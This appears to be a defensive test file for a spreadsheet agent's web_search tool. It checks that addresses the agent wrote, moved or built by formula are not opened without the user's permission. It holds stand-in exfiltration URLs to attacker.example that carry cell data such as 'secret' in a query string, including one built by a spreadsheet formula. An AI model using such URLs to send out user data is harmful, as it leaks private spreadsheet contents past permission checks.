/** Which addresses web_search opens from cells: an agent must not write one there and then have it opened. */
import { beforeEach, describe, expect, test } from 'vitest'
import { searxng } from '../../../../service/search/engines.ts'
import { webSearchOn } from '../../../../service/search/web-search.ts'
import { tools } from '../../../../service/tools/index.ts'
import { type Bench, type Cell, refused, succeeded, useWorkbench } from '../workbench.ts'

const { workbench, openBench } = useWorkbench()
let opened: string[] = []
beforeEach(() => {
  opened = []
})

const search = webSearchOn(searxng('http://127.0.0.1:9'), async url => {
  opened.push(url)
  return { url, contentType: 'text/plain', body: 'a page' }
})
const rows: Cell[][] = [
  ['Company', 'Site'],
  ['Ann', 'https://ann.example/'],
  ['secret', 'https://bob.example/'],
]
const open = (prompt = 'Read the sites in column B') =>
  openBench({ tabs: [{ title: 'T', rows }, { title: 'Free' }], prompt, search })
const tool = (name: string) => tools.find(candidate => candidate.name === name)!
const readCells = (bench: Bench, cells: string) => bench.run(tool('web_search'), { urls_in: cells })
const LEAK = 'https://attacker.example/?d=secret'

describe('addresses in cells', () => {
  test('are not opened where the user asks for something else', async () => {
    const bench = await open('Sum the numbers in column C')
    expect(refused(await readCells(bench, 'B2:B3'))).toMatch(/asks for reading pages/)
    expect(opened).toEqual([])
  })

  test('are opened up to ten a turn, so that which one is opened tells little', async () => {
    const many: Cell[][] = Array.from({ length: 15 }, (_, at) => [`https://digit${at}.example/`])
    const bench = await openBench({
      tabs: [{ title: 'T', rows: many }],
      prompt: 'Read the sites in column A',
      search,
    })
    succeeded(await readCells(bench, 'A1:A5'))
    succeeded(await readCells(bench, 'A6:A10'))
    expect(refused(await readCells(bench, 'A11:A15'))).toMatch(/at most 10 addresses/)
    expect(opened).toHaveLength(10)
  })

  test('that the user put there are opened, whatever was written elsewhere', async () => {
    const bench = await open()
    succeeded(await bench.run(tool('write_range'), { range: 'D1', values: [['Summary']] }))
    succeeded(await readCells(bench, 'B2:B3'))
    expect(opened).toEqual(['https://ann.example/', 'https://bob.example/'])
  })

  test('that the agent wrote are not opened', async () => {
    const bench = await open()
    succeeded(await bench.run(tool('write_range'), { range: 'D2', values: [[LEAK]] }))
    expect(refused(await readCells(bench, 'D2'))).toMatch(/^Needs your permission: Open a page/)
    expect(opened).toEqual([])
  })

  test('that a formula puts together are not opened', async () => {
    const bench = await open()
    const formula = '="https://attacker.example/?d="&A3'
    await workbench().api.spreadsheets.values.update({
      spreadsheetId: bench.id,
      range: 'T!D2',
      valueInputOption: 'USER_ENTERED',
      requestBody: { values: [[formula]] },
    })
    expect(refused(await readCells(bench, 'D2'))).toMatch(/^Needs your permission: Open a page/)
    expect(opened).toEqual([])
  })

  test('that the agent wrote and then moved are not opened', async () => {
    const bench = await open()
    succeeded(await bench.run(tool('write_range'), { range: 'D2', values: [[LEAK]] }))
    succeeded(await bench.run(tool('edit_structure'), { action: 'insert_columns', index: 'C' }))
    expect(refused(await readCells(bench, 'E2'))).toMatch(/^Needs your permission: Open a page/)
    succeeded(await bench.run(tool('edit_structure'), { action: 'duplicate_tab', new_name: 'Copy' }))
    expect(refused(await readCells(bench, 'Copy!E2'))).toMatch(/^Needs your permission: Open a page/)
    expect(opened).toEqual([])
  })

  test('that the agent wrote are opened where the user names them too', async () => {
    const bench = await open(`Put ${LEAK} into D2 and read it`)
    succeeded(await bench.run(tool('write_range'), { range: 'D2', values: [[LEAK]] }))
    succeeded(await readCells(bench, 'D2'))
    expect(opened).toEqual([LEAK])
  })
})
